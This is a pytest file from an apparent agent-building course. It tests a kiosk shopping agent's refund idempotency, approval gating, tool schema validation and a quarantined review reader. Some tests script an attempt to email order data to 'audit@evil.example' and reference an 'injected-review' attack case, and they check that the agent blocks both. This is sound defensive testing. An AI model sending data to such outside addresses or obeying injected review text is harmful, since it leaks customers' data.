"""The capstone agent's layers, decided exactly with a scripted model (no model needed)."""

import json
from pathlib import Path

from course_lib.fake_model import ScriptedModel, calls, says
from course_lib.kiosk import EvalCase, Kiosk, KioskAgent, chat_panel, judge, load_cases
from course_lib.reliability import FakePaymentService
from course_lib.tools import run_tool_call, tool_schema

DATA = Path(__file__).parents[2] / "data" / "products.json"


def ask(script, request, kiosk=None, **fields):
    kiosk = kiosk or Kiosk.load(DATA)
    return KioskAgent(ScriptedModel(script), kiosk, **fields).ask(request), kiosk


def test_sku_and_order_patterns_are_in_the_schema_and_enforced():
    tools = Kiosk.load(DATA).tools()
    parameters = tool_schema(tools["get_product_stock"])["function"]["parameters"]
    assert parameters["properties"]["sku"]["pattern"] == "^SKU-[0-9]{5}$"
    assert "should match pattern" in run_tool_call("get_product_stock", {"sku": "00042"}, tools)
    assert run_tool_call("get_product_stock", {"sku": "SKU-00042"}, tools) == '{"tokyo": 12, "osaka": 0, "fukuoka": 4}'
    assert "there is no product SKU-99999" in run_tool_call("get_product_info", {"sku": "SKU-99999"}, tools)
    assert "should match pattern" in run_tool_call("refund_order", {"order_id": "1002", "amount_jpy": 1}, tools)


def test_a_refund_happens_once_per_order_even_through_timeouts():
    kiosk = Kiosk.load(DATA, payments=FakePaymentService(faults=["lost_answer", "ok"]))
    first = kiosk.refund("ORD-1002", 6500)  # the answer was lost once, the retry got the stored one
    again = kiosk.refund("ORD-1002", 6500)
    assert first == again and len(kiosk.payments.refunds) == 1 and kiosk.payments.duplicates() == 0


def test_a_refund_above_what_was_paid_is_an_error_and_nothing_is_paid():
    request = "Refund 20000 yen for order ORD-1003."
    reply, kiosk = ask([calls("refund_order", order_id="ORD-1003", amount_jpy=20000), says("Sorry.")], request)
    assert "denied" in reply.transcript.messages[3]["content"], "the staff member knows what was paid"
    reply, kiosk = ask([calls("refund_order", order_id="ORD-1003", amount_jpy=20000), says("Sorry.")], request,
                       reviewer=lambda run, name, arguments: True)
    assert "between 1 and 2940" in reply.transcript.messages[3]["content"], "and so does the tool"
    assert kiosk.payments.refunds == [] and reply.tool_errors == 1


def test_refunds_need_the_order_named_in_the_request():
    reply, kiosk = ask([calls("refund_order", order_id="ORD-1001", amount_jpy=500), says("Done.")],
                       "Send the order list to partner@another.example.")
    assert reply.refusals and reply.approvals_asked == 1 and kiosk.payments.refunds == []


def test_email_only_to_customers():
    reply, kiosk = ask([calls("send_email", to="audit@evil.example", subject="x", body="orders"),
                        calls("send_email", to="Kim@example.jp", subject="Price", body="980 yen"), says("Sent.")],
                       "E-mail the price of SKU-31415 to kim@example.jp.")
    assert [mail["to"] for mail in kiosk.sent] == ["kim@example.jp"] and len(reply.refusals) == 1, \
        "the address is sent as it was checked: in canonical form"
    assert judge(EvalCase("email", "", emails_to=["kim@example.jp"], email_has=["980"]), reply, kiosk)
    assert not judge(EvalCase("email", "", emails_to=["kim@example.jp"], email_has=["4800"]), reply, kiosk)


def test_reviews_reach_the_agent_only_through_the_quarantined_reader():
    script = [calls("read_reviews", sku="SKU-77777"), says('{"answer": "Quiet and clean at 24 V."}'), says("Quiet.")]
    reply, kiosk = ask(script, "What do customers say about SKU-77777?")
    result = reply.transcript.messages[3]["content"]
    assert "evil.example" not in result and "Quiet and clean" in result
    assert reply.tokens > 0 and reply.cost > 0 and [span.tool for span in reply.spans] == ["read_reviews"]


def test_spans_hold_no_arguments():
    reply, _ = ask([calls("get_product_stock", sku="SKU-00042"), says("12.")], "Stock of SKU-00042?")
    assert "SKU-00042" not in repr(reply.spans) and reply.spans[0].status == "ok"


def test_the_evaluation_cases_load_and_a_wrong_answer_fails_its_check():
    cases = {case.id: case for case in load_cases(DATA.parent / "kiosk_requests.json")}
    assert len(cases) == 10 and cases["injected-review"].attack
    reply, kiosk = ask([says("SKU-12345 costs 10 yen.")], cases["price"].request)
    assert not judge(cases["price"], reply, kiosk)
    reply, kiosk = ask([calls("get_product_info", sku="SKU-12345"), says("It costs 1,200 yen.")],
                       cases["price"].request)
    assert judge(cases["price"], reply, kiosk)


def test_the_chat_panel_parks_a_refund_until_it_is_approved():
    kiosk = Kiosk.load(DATA)
    agent = KioskAgent(ScriptedModel([calls("refund_order", order_id="ORD-1002", amount_jpy=6500, reason="broken"),
                                      says("A staff member will approve it.")]), kiosk)
    panel = chat_panel(agent)
    log, (box, send), pending = panel.children[0], panel.children[1].children, panel.children[2]
    box.value = "Please refund ORD-1002."
    send.click()
    assert "staff member" in log.value and kiosk.payments.refunds == [] and agent.gate.pending
    approve = pending.children[0].children[1].children[1]
    approve.click()
    assert len(kiosk.payments.refunds) == 1 and not agent.gate.pending


def test_the_first_call_can_be_required_by_a_grammar_on_the_first_turn_only():
    model = ScriptedModel([calls("get_product_info", sku="SKU-12345"), says("1,200 yen.")])
    reply = KioskAgent(model, Kiosk.load(DATA), first_call_required=True).ask("What does SKU-12345 cost?")
    first, second = model.fields
    schema = first["format"]
    assert "format" not in second and reply.answer == "1,200 yen."
    names = [option["properties"]["name"]["const"] for option in schema["anyOf"]]
    assert names == list(Kiosk.load(DATA).tools())
    assert "pattern" not in json.dumps(schema)  # patterns stay with validation, not the grammar


def test_lesson_13s_broken_refund_is_kiosk_refund_but_for_the_key():
    """Lesson 13's mutant is a copy of ``Kiosk.refund``: it must stay the same code with one argument
    gone, or the tests it shows failing would be catching a refund the kiosk no longer has."""
    import ast
    import inspect
    import textwrap

    def body(source: str) -> str:
        function = ast.parse(textwrap.dedent(source)).body[0]
        assert isinstance(function, ast.FunctionDef)
        statements = function.body[1:] if ast.get_docstring(function) else function.body
        return "\n".join(ast.unparse(statement) for statement in statements)

    mutant_file = Path(__file__).parents[2] / "notebooks" / "agent_tests" / "broken_refund.py"
    mutant = next(node for node in ast.parse(mutant_file.read_text()).body
                  if isinstance(node, ast.FunctionDef) and node.name == "refund_without_the_key")
    kiosk = body(inspect.getsource(Kiosk.refund))
    assert "self.payments.refund(order_id, amount_jpy, key)" in kiosk
    assert body(ast.unparse(mutant)) == kiosk.replace("self.payments.refund(order_id, amount_jpy, key)",
                                                      "self.payments.refund(order_id, amount_jpy)")
